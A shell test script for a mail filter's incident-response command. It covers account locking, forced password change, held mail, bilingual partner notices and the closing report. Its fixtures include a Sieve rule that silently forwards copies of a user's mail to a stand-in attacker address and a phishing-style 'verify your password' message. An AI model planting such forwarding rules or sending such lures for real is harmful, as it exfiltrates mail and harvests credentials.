#!/bin/sh
# test_incident.sh - the incident flow end to end against a running
# sekishod: a user sends mail through the outbound listener (first
# delivered, then stuck in the queue), has a Sieve rule forwarding a copy
# outside and a login on record; `sekisho incident open` must show all of
# it, lock the login, mark the forced password change, hold the queued
# mail, list the external contacts (not the internal ones), write the
# notices (ISO-2022-JP and English) and rescan the spooled mail; then
# steps are marked, the incident is shown and closed with its report.
. "$(dirname "$0")/lib.sh"

command -v swaks >/dev/null || skip "swaks is not installed"
command -v sqlite3 >/dev/null || skip "sqlite3 is not installed"
command -v jq >/dev/null || skip "jq is not installed"
command -v iconv >/dev/null || skip "iconv is not installed"

U=taro@sekisho.test
mkdir -p "$T/state" "$T/sieve/$U"
cat > "$T/sieve/$U/roundcube.sieve" <<'SIEVE'
require ["copy"];
redirect :copy "collector@evil.example";
SIEVE
COMMON="-o local_domains=sekisho.test -o network_checks=no -o bayes_enable=no -o sieve_dir=$T/sieve"
S="swaks --server 127.0.0.1 --timeout 20 --hide-all"

# 1. delivered mail: gone from the queue afterwards, kept in the sent history
# shellcheck disable=SC2086 # option lists
start_sekishod $COMMON
$S --port "$OUT_PORT" --from $U --to partner@partner.example,hanako@sekisho.test \
	--header "Subject: quarterly report" --body "see attached" || fail "first mail refused"
wait_for 20 sh -c "[ \$(find '$T/state/sink' -type f 2>/dev/null | wc -l) -ge 2 ]" ||
	fail "first mail not delivered"
ok "mail delivered before the incident"
stop_sekishod

# 2. mail stuck in the queue (the next hop is down)
DOWN=$(free_port)
# shellcheck disable=SC2086
start_sekishod $COMMON -o outbound_next_hop=smtp:127.0.0.1:"$DOWN"
$S --port "$OUT_PORT" --from $U --to victim@customer.example \
	--header "Subject: Urgent: verify your account" \
	--body "Your mailbox will be suspended. Verify your password at http://192.0.2.7/login now." ||
	fail "second mail refused"
wait_for 20 sh -c "sqlite3 '$T/state/sekisho.db' \"select count(*) from messages where state = 2\" | grep -qx 1" ||
	fail "second mail not queued"
ok "mail queued for a next hop that is down"
stop_sekishod

# a login on record, as the policy servers write them
sqlite3 "$T/state/sekisho.db" "insert into login_events (time_ms, login, ip, protocol, source, country, result) values ($(date +%s)000, '$U', '203.0.113.9', 'imap', 'dovecot', 'NL', 1)"

I="$SEKISHO -o state_dir=$T/state $COMMON"
$I incident open $U --actor alice --json > "$T/open.json" 2> "$T/open.err"
check "incident open succeeds" [ $? -eq 0 ]
check "incident 1" [ "$(jq .id "$T/open.json")" = 1 ]
check "step 1 shows the login with IP and country" \
	sh -c "jq -e '.steps[0].logins[] | select(.ip == \"203.0.113.9\" and .country == \"NL\")' '$T/open.json' >/dev/null"
check "step 1 shows the Sieve redirect as new and risky" \
	sh -c "jq -e '.steps[0].sieve.findings[] | select(.kind == \"redirect_copy\" and .risky and .new)' '$T/open.json' >/dev/null"
check "step 1 shows both messages sent, with their actions" \
	[ "$(jq '.steps[0].sent | length' "$T/open.json")" = 2 ]
check "step 1 shows the queued one" [ "$(jq '.steps[0].in_queue | length' "$T/open.json")" = 1 ]
check "step 2 locked the login" \
	[ "$(sqlite3 "$T/state/sekisho.db" "select reason from account_locks where login = '$U'")" = "incident 1" ]
check "step 2 marked the password change" \
	[ "$(sqlite3 "$T/state/sekisho.db" "select count(*) from password_changes where login = '$U'")" = 1 ]
check "step 2 held the queued mail" \
	[ "$(sqlite3 "$T/state/sekisho.db" "select count(*) from messages where state = 4")" = 1 ]
PW=$(jq -r '.steps[1].temporary_password' "$T/open.json")
check "a 20-character temporary password is shown" [ ${#PW} -eq 20 ]
check "it is not in the store" sh -c "! sqlite3 '$T/state/sekisho.db' .dump | grep -qF '$PW'"
check "step 3 lists the external contacts" \
	[ "$(jq -c '[.steps[2].external_recipients[].address] | sort' "$T/open.json")" = '["partner@partner.example","victim@customer.example"]' ]
JA=$(jq -r .steps[2].notices.ja "$T/open.json")
EN=$(jq -r .steps[2].notices.en "$T/open.json")
check "the Japanese notice is ISO-2022-JP" grep -q "charset=ISO-2022-JP" "$JA"
check "its subject is RFC 2047 encoded" grep -q "^Subject: =?ISO-2022-JP?B?" "$JA"
check "its body reads back as Japanese" sh -c "sed '1,/^\r*$/d' '$JA' | iconv -f ISO-2022-JP -t UTF-8 | grep -q '不審なメール'"
check "its bytes are 7-bit" sh -c "! LC_ALL=C grep -qP '[\\x80-\\xff]' '$JA'"
check "the subject reads back" sh -c "grep -A4 '^Subject:' '$JA' | python3 -c 'import sys,email.header; h=sys.stdin.read().split(\"Date:\")[0][8:]; print(str(email.header.make_header(email.header.decode_header(h))))' | grep -q '^【重要】不審なメール'"
check "the notices are addressed to the contacts in Bcc" \
	sh -c "grep -q 'victim@customer.example' '$EN' && grep -q 'partner@partner.example' '$JA'"
check "but not to colleagues" sh -c "! grep -q 'hanako@sekisho.test' '$EN'"
check "the English notice names the user" grep -q "$U" "$EN"
check "step 4 rescanned the spooled message" \
	[ "$(jq '[.steps[3].rescanned[] | select(.status == "rescanned")] | length' "$T/open.json")" = 1 ]

$I incident open $U > "$T/open2.out" 2>&1
check "a second incident for the same login is refused" [ $? -ne 0 ]
check "naming the open one" grep -q "incident 1 is already open" "$T/open2.out"

$I password status $U > "$T/pws.txt"
check "password status shows the forced change" grep -q "change required since.*incident 1" "$T/pws.txt"
$I password changed $U > /dev/null
check "password changed clears it" [ $? -eq 0 ]
$I password changed $U > /dev/null
check "twice: nothing was pending (exit 1)" [ $? -eq 1 ]
$I incident step 1 2 done --note "password reset in LDAP" --actor bob > /dev/null
check "step 2 marked done" [ $? -eq 0 ]
$I incident step 1 9 done > /dev/null 2>&1
check "step 9 is refused" [ $? -ne 0 ]
$I incident show 1 --json > "$T/show.json"
check "show: step 2 done by bob with the note" \
	[ "$(jq -r '.steps[1] | "\(.done) \(.actor) \(.note)"' "$T/show.json")" = "true bob password reset in LDAP" ]
check "show: the timeline starts with alice opening it" \
	[ "$(jq -r '.timeline[0] | "\(.actor) \(.what)"' "$T/show.json")" = "alice opened" ]
$I incident show 1 > "$T/show.txt"
check "show in text" grep -q "step 2  step_done: password reset in LDAP" "$T/show.txt"
check "the change is in the timeline" grep -q "step 2  password_changed" "$T/show.txt"
$I incident close 1 --actor bob > /dev/null
check "close" [ $? -eq 0 ]
$I incident list --all --json > "$T/list.json"
check "listed as closed" [ "$(jq -r '.[0].status' "$T/list.json")" = closed ]
$I incident show 1 --json > "$T/show2.json"
check "the closing report is in the timeline" \
	sh -c "jq -e '.timeline[] | select(.what == \"report\") | .detail.steps' '$T/show2.json' >/dev/null"
$I incident close 1 > /dev/null 2>&1
check "closing twice fails" [ $? -ne 0 ]
$I incident open $U --actor alice > "$T/open3.txt" 2>&1
check "a new incident after closing, in text" grep -q "TEMPORARY PASSWORD" "$T/open3.txt"
check "with the Japanese headings" grep -q "取引先への注意喚起" "$T/open3.txt"
$I incident close 2 > /dev/null
$I incident open $U --notice-dir - > "$T/open4.txt" 2>&1
check "--notice-dir -: the notices on standard output" \
	sh -c "grep -q '^Subject: =?ISO-2022-JP?B?' '$T/open4.txt' && grep -q '^Subject: Important: beware' '$T/open4.txt'"
check "and no files" [ ! -e "$T/state/incidents/3" ]
finish
